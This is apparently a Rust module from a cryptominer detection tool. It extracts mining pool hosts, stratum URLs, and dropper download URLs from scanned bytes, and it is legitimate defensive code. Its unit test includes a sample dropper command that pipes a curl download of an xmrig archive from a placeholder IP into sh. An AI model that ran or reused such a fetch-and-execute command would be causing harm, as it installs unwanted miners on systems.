//! Indicator values in bytes: what a rule's matched bytes give (pool hosts
//! with their ports, stratum URLs, a dropper's URLs and hosts), extracted by
//! the rule scanner while the bytes are at hand, and the URL scan findings'
//! evidence goes through too. [`crate::ioc`] gathers them into the report.

use regex::bytes::Regex;
use serde::Serialize;
use std::sync::LazyLock;

/// The rule that matches mining pool host names.
pub const POOL_RULE: &str = "mining_pool_host";

/// Most indicators one rule match gives.
const MAX_PER_MATCH: usize = 16;

/// What an indicator is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum IocKind {
    /// A mining pool, `host` or `host:port`.
    Pool,
    /// A Monero wallet address with a valid checksum.
    Wallet,
    /// A URL code is fetched from.
    Url,
    /// The host of such a URL.
    Host,
    /// An SSH public key's fingerprint (`SHA256:…`, as `ssh-keygen -l`).
    SshKey,
}

impl IocKind {
    /// The report's name of the kind.
    pub fn as_str(self) -> &'static str {
        match self {
            IocKind::Pool => "pool",
            IocKind::Wallet => "wallet",
            IocKind::Url => "url",
            IocKind::Host => "host",
            IocKind::SshKey => "ssh-key",
        }
    }
}

static POOL_TOKEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9.-]*$").expect("valid regex"));
static STRATUM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)stratum2?\+(?:tcp|ssl|tls)://([A-Za-z0-9.-]+(?::[0-9]{1,5})?)")
        .expect("valid regex")
});
static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"https?://[A-Za-z0-9.-]+(?::[0-9]{1,5})?(?:/[^\s'"`|;&<>)(\\]*)?"#)
        .expect("valid regex")
});

/// The indicators in `data`, which rule `rule` matched at `spans` (byte
/// ranges of its matches).
pub(crate) fn extract(
    rule: &str,
    data: &[u8],
    spans: &[std::ops::Range<usize>],
) -> Vec<(IocKind, String)> {
    let mut out = Vec::new();
    match rule {
        POOL_RULE => {
            for span in spans {
                let left = POOL_TOKEN
                    .find(&data[span.start.saturating_sub(128)..span.start])
                    .map_or(0, |m| m.len());
                let rest = &data[span.end..];
                let right = rest
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
                    .count();
                let mut end = span.end + right;
                if let Some(port) = data[end..].strip_prefix(b":") {
                    let digits = port.iter().take_while(|b| b.is_ascii_digit()).count();
                    if (2..=5).contains(&digits) {
                        end += 1 + digits;
                    }
                }
                let host = String::from_utf8_lossy(&data[span.start - left..end])
                    .trim_start_matches(['.', '-'])
                    .to_ascii_lowercase();
                out.push((IocKind::Pool, host));
            }
        }
        "stratum_protocol" | "xmrig_config" | "cpu_gpu_miner" | "xmrig_miner" => {
            for found in STRATUM.captures_iter(data).take(MAX_PER_MATCH) {
                let host = String::from_utf8_lossy(&found[1]).to_ascii_lowercase();
                out.push((IocKind::Pool, host));
            }
        }
        "miner_dropper_script" => out = fetched_urls(data, MAX_PER_MATCH),
        _ => {}
    }
    out.truncate(MAX_PER_MATCH);
    out
}

/// The first `most` URLs in `text`, each followed by its host.
pub(crate) fn fetched_urls(text: &[u8], most: usize) -> Vec<(IocKind, String)> {
    let mut out = Vec::new();
    for found in URL.find_iter(text).take(most) {
        url_and_host(&String::from_utf8_lossy(found.as_bytes()), &mut out);
    }
    out
}

/// `url` and its host.
fn url_and_host(url: &str, out: &mut Vec<(IocKind, String)>) {
    let url = url.trim_end_matches(['.', ',']);
    let host = url
        .split_once("://")
        .map(|(_, rest)| rest.split(['/', ':']).next().unwrap_or(rest))
        .unwrap_or_default()
        .to_ascii_lowercase();
    out.push((IocKind::Url, url.to_string()));
    if !host.is_empty() {
        out.push((IocKind::Host, host));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_hosts_with_ports_and_stratum_urls() {
        let data = b"{\"url\": \"pool.supportxmr.com:443\", \"x\": 1}";
        let at = data
            .windows(14)
            .position(|w| w == b"supportxmr.com")
            .unwrap();
        assert_eq!(
            extract(POOL_RULE, data, std::slice::from_ref(&(at..at + 14))),
            [(IocKind::Pool, "pool.supportxmr.com:443".to_string())]
        );
        assert_eq!(
            extract(
                "stratum_protocol",
                b"-o stratum+tcp://Pool.Example.net:3333 -u x",
                &[]
            ),
            [(IocKind::Pool, "pool.example.net:3333".to_string())]
        );
        assert_eq!(
            extract(
                "miner_dropper_script",
                b"curl -fsSL http://203.0.113.5/xmrig.tar.gz|sh",
                &[]
            ),
            [
                (IocKind::Url, "http://203.0.113.5/xmrig.tar.gz".to_string()),
                (IocKind::Host, "203.0.113.5".to_string())
            ]
        );
    }
}
